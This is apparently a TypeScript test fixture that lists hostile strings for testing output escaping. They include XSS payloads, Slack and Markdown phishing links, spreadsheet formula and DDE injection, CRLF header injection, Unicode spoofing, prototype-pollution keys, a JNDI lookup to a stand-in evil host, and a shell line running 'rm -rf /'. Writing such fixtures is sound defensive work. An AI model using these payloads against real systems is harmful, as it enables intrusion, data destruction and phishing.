/** What attackers write into names, tags and agents, by what it is meant for. */
export const corpus: Readonly<Record<string, string>> = {
  html: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'an attribute': '" onmouseover="alert(1)" x=\' onclick=\'alert(1)',
  'an entity': '&lt;script&gt; &#x3c;b&#x3e;',
  xml: ']]><evil/><!-- --> <?xml version="1.0"?>',
  'a web address': 'https://evil.example/login javascript:alert(1)',
  'a link of Slack': '<https://evil.example|reset your password> <!channel> <!here> <@U012AB3CD>',
  'a mention': '@here @channel @everyone <at>everyone</at>',
  'a link of Markdown':
    '[reset your password](https://evil.example) ![x](https://evil.example/x.png)',
  'a table of Markdown': '| a | b |\n|---|---|\n`code` **bold** # head',
  colours: '\u001b[31mred\u001b[0m\u001b[2J\u001b]0;title\u0007\u009b2J',
  'line ends': 'subject\r\nBcc: all@example.com\r\n\r\nbody\u2028x\u2029y\u0085z',
  'a formula': '=HYPERLINK("https://evil.example","x")',
  'another formula': '@SUM(1+1)*cmd|" /C calc"!A0',
  'the other direction': '\u202egpj.exe\u202c \u2066x\u2069 \u200fabc',
  'what cannot be seen': 'ad\u200bmin\u00ad\ufeff\u{e0041}\u3164',
  'half a character': '\ud800 \udc00 a\udbff',
  'a key of all objects': '__proto__',
  'another key of all objects': 'constructor',
  templates: `{{7*7}} ${'$'}{7*7} #{7*7} <%= 7*7 %> %s %n ${'$'}{jndi:ldap://evil.example/a}`,
  nothing: '',
  'a null byte': 'a\u0000b',
  'a shell': '$(rm -rf /) `id` ; | && > /tmp/x',
};

/** A field far longer than any that AWS takes. */
export const longText = '漢<&"😀'.repeat(20_000);
